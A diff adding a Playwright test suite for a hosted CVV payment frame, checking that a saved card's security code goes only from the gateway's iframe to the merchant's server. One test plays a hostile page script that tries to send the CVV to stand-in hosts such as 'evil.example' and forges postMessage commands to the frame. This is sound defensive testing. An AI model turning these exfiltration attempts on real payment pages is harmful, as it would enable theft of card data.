@@ -1,0 +1,159 @@
+// A kept card paid again with its CVV (the CVV-only hosted form): the CVV is typed into a frame on the
+// gateway's origin and posted by that frame straight to the merchant's server. The merchant's page
+// (https://localhost:P2, strict CSP) never sees it, and no script on it can send it anywhere else.
+import { readFile } from 'node:fs/promises';
+import { expect, type Page, test } from '@playwright/test';
+import { testCards } from '../src/sandbox';
+import { readKeptCard } from '../src/server';
+import { readmeBlock } from '../test/readme';
+import { type Merchant, startMerchant } from './support/merchant';
+import { openCheckout } from './support/page';
+import { expectNoCardData, recordMerchant } from './support/recorder';
+
+let merchant: Merchant;
+let keptCardId: string;
+test.beforeAll(async () => {
+  merchant = await startMerchant();
+  // A first payment whose card the payer asked to keep: the vault's card id is what the page knows.
+  const first = await merchant.gateway.payments.create({
+    intent: 'sale', amount: { currency: 'USD', total: '5.00' }, storedCredential: { kind: 'first' }, payer: { email: 'ada@example.com' },
+    card: { number: testCards.approved.number, expireMonth: 12, expireYear: 2034, cvv: '123' },
+  });
+  keptCardId = readKeptCard(first).vaultCardId!;
+  // The README's page for a kept card: its form carries what the merchant's server knows of the card.
+  const html = (await readFile(new URL('support/kept-card.html', import.meta.url), 'utf8'))
+    .replace('<form id="pay" novalidate>', `<form id="pay" novalidate data-card-id="${keptCardId}" data-brand="visa" data-merchant-id="${merchant.sandbox.merchant.id}" data-gateway-url="${merchant.sandbox.url}">`)
+    .replace('/kept-card.js', '/readme/kept-card.js');
+  merchant.files.set('/readme/kept-card', { type: 'text/html; charset=utf-8', body: html });
+  merchant.files.set('/readme/kept-card.js', { type: 'text/javascript', body: readmeBlock('hosted/kept-card.js') });
+  await merchant.useKeptCardRoutes(readmeBlock('hosted/kept-card.mjs'));
+});
+test.afterAll(() => merchant?.close());
+
+const CVV = '739';
+const LABEL = 'Security code of the Visa ending in 1111';
+const keptCardPage = (query: Record<string, string> = {}) =>
+  `${merchant.url}/kept-card?${new URLSearchParams({ merchant: merchant.sandbox.merchant.id, gateway: merchant.sandbox.url, card: keptCardId, ...query })}`;
+const cvvInput = (page: Page, label = LABEL) => page.frameLocator('#kept-cvv iframe').getByLabel(label);
+const posts = () => merchant.requests.filter((r) => r.path === '/pay/kept-card' && r.method === 'POST').length;
+const outcome = (page: Page, script: string) =>
+  page.evaluate(`(${script})().then((v) => ({ ok: v }), (e) => ({ code: e.code, fields: e.fields, message: e.message }))`) as Promise<any>;
+
+test('the CVV goes from its frame to the merchant’s server, which pays the kept card; the page never sees it', async ({ page }) => {
+  const recorder = await recordMerchant(page);
+  await page.goto(keptCardPage());
+  await cvvInput(page).click();
+  await page.keyboard.type(CVV);
+  await page.keyboard.press('Enter'); // Enter in the field submits the page's form
+  await expect(page.getByRole('status')).toHaveText('Paid: authorised', { timeout: 15_000 });
+
+  expect(merchant.received.at(-1)).toEqual({ cvv: CVV, body: { keptCardId } });
+  const payment = merchant.sandbox.requests().filter((r) => r.method === 'POST' && r.path.endsWith('/payment')).at(-1)!;
+  expect((payment.body as any).payer.funding_instrument.credit_card_token).toEqual({ credit_card_id: keptCardId, cvv2: '***' });
+  // The post came from the frame's origin, without cookies, after a preflight the route answered.
+  const frameOrigin = new URL(merchant.sandbox.url).origin;
+  const asked = merchant.requests.filter((r) => r.path === '/pay/kept-card').slice(-2);
+  expect(asked.map((r) => [r.method, r.headers.origin, r.headers.cookie])).toEqual([['OPTIONS', frameOrigin, undefined], ['POST', frameOrigin, undefined]]);
+  await expectNoCardData(recorder, { cvv: CVV });
+  expect(recorder.requests.filter((r) => r.includes('/pay/kept-card'))).toEqual([]); // the page itself posted nothing there
+});
+
+test('the brand sets the size: an American Express CID takes four digits; an incomplete one is refused and nothing is sent', async ({ page }) => {
+  await page.goto(keptCardPage({ brand: 'american-express', label: '' }));
+  const input = cvvInput(page, 'Security code (CID)');
+  await input.click();
+  await page.keyboard.type('12');
+  const before = posts();
+  expect(await outcome(page, "() => window.form.postCvv({ url: '/pay/kept-card', body: {} })")).toMatchObject({ code: 'invalid_card', fields: ['cvv'] });
+  await expect(input).toHaveValue('12');
+  await expect(input).toHaveAttribute('aria-invalid', 'true');
+  await page.keyboard.type('345');
+  await expect(input).toHaveValue('1234');
+  await expect(page.locator('#kept-cvv')).toHaveClass(/payframe-field--valid/);
+  expect(posts()).toBe(before);
+});
+
+test('a brand the frames do not know fails the mount with invalid_config', async ({ page }) => {
+  await page.goto(keptCardPage({ brand: 'visaa' }));
+  await expect(page.getByRole('status')).toHaveText(/^invalid_config: mountFields: brand must be one of visa, /);
+  await expect(page.locator('iframe')).toHaveCount(0);
+});
+
+test('a hostile script on the page cannot send the CVV anywhere but the merchant’s own routes that allow the frames', async ({ page }) => {
+  const recorder = await recordMerchant(page);
+  const seen: string[] = [];
+  page.on('request', (r) => seen.push(`${r.method()} ${r.url()}`));
+  await page.goto(keptCardPage());
+  await cvvInput(page).click();
+  await page.keyboard.type(CVV);
+  await page.evaluate(() => (window as any).form.ready);
+
+  // Through the form: any other origin is refused before anything leaves.
+  for (const url of [`${merchant.sandbox.url}/collect`, 'https://evil.example/collect', '//evil.example/x', 'javascript:alert(1)']) {
+    expect(await outcome(page, `() => window.form.postCvv({ url: ${JSON.stringify(url)} })`), url).toMatchObject({ code: 'unsafe_url' });
+  }
+  // Straight to the frame, forging the form's own messages: the frame checks the URL itself.
+  const answer = await page.evaluate(async (gateway) => {
+    const frame = document.querySelector('iframe')!;
+    const ch = new URLSearchParams(frame.src.split('#')[1]).get('channel');
+    const answers: unknown[] = [];
+    addEventListener('message', (e) => e.data?.t === 'failure' && e.data.id === 99 && answers.push(e.data.error.code));
+    frame.contentWindow!.postMessage({ ch, t: 'post', id: 99, url: `${gateway}/collect`, body: {}, timeoutMs: 5000 }, new URL(gateway).origin);
+    await new Promise((r) => setTimeout(r, 1000));
+    return answers;
+  }, merchant.sandbox.url);
+  expect(answer).toEqual(['unsafe_url']);
+  // A route of the merchant that does not allow the frames' origin never receives the CVV: the preflight fails.
+  expect(await outcome(page, "() => window.form.postCvv({ url: '/csp-report' })")).toMatchObject({ code: 'network' });
+  expect(merchant.requests.filter((r) => r.path === '/csp-report' && r.method === 'POST')).toEqual([]);
+  expect(seen.filter((r) => /evil\.example|\/collect/.test(r))).toEqual([]);
+  expect(merchant.sandbox.requests().filter((r) => r.path.includes('collect'))).toEqual([]);
+  await expectNoCardData(recorder, { cvv: CVV });
+});
+
+test('a full form’s CVV field never posts, whatever the page asks', async ({ page }) => {
+  const recorder = await recordMerchant(page);
+  await openCheckout(page, merchant);
+  await page.frameLocator('#card-cvv iframe').getByLabel('Security code').click();
+  await page.keyboard.type(CVV);
+  expect(await outcome(page, "() => window.form.postCvv({ url: '/pay/kept-card' })")).toMatchObject({ code: 'invalid_request' });
+  const before = posts();
+  const answers = await page.evaluate(async () => {
+    const frame = document.querySelector<HTMLIFrameElement>('#card-cvv iframe')!;
+    const ch = new URLSearchParams(frame.src.split('#')[1]).get('channel');
+    const heard: unknown[] = [];
+    addEventListener('message', (e) => e.data?.id === 7 && heard.push(e.data));
+    // Even claiming, in a forged config, that the form has no number field.
+    frame.contentWindow!.postMessage({ ch, t: 'config', locale: 'en', fields: ['cvv'] }, new URL(frame.src).origin);
+    frame.contentWindow!.postMessage({ ch, t: 'post', id: 7, url: `${location.origin}/pay/kept-card`, body: {}, timeoutMs: 5000 }, new URL(frame.src).origin);
+    await new Promise((r) => setTimeout(r, 1000));
+    return heard;
+  });
+  expect(answers).toEqual([]);
+  expect(posts()).toBe(before);
+  await expectNoCardData(recorder, { cvv: CVV });
+});
+
+test('the README’s kept card, page and routes as written: a ticket, the CVV from its frame, a payment', async ({ page }) => {
+  const recorder = await recordMerchant(page);
+  await page.goto(`${merchant.url}/readme/kept-card`);
+  const input = cvvInput(page);
+  await input.click();
+  await page.keyboard.type('12');
+  await page.getByRole('button', { name: 'Pay 25.00 USD' }).click();
+  await expect(page.getByRole('status')).toHaveText('Check the security code');
+  await expect(input).toHaveValue('12'); // kept as typed; nothing was sent
+  await input.click();
+  await page.keyboard.press('End');
+  await page.keyboard.type('3');
+  await page.getByRole('button', { name: 'Pay 25.00 USD' }).click();
+  await expect(page.getByRole('status')).toHaveText('Paid: captured', { timeout: 15_000 });
+  const sent = merchant.requests.filter((r) => r.path.startsWith('/kept-card/')).map((r) => `${r.method} ${r.path} ${r.headers.origin ?? ''}`);
+  const frames = new URL(merchant.sandbox.url).origin;
+  // The first try's ticket went unused (postCvv refused the code before sending anything); the second paid.
+  const ticket = `POST /kept-card/ticket ${merchant.url}`;
+  expect(sent).toEqual([ticket, ticket, `OPTIONS /kept-card/pay ${frames}`, `POST /kept-card/pay ${frames}`]);
+  const payment = merchant.sandbox.requests().filter((r) => r.method === 'POST' && r.path.endsWith('/payment')).at(-1)!;
+  expect((payment.body as any).payer.funding_instrument.credit_card_token).toEqual({ credit_card_id: keptCardId, cvv2: '***' });
+  await expectNoCardData(recorder, { cvv: '123' });
+});
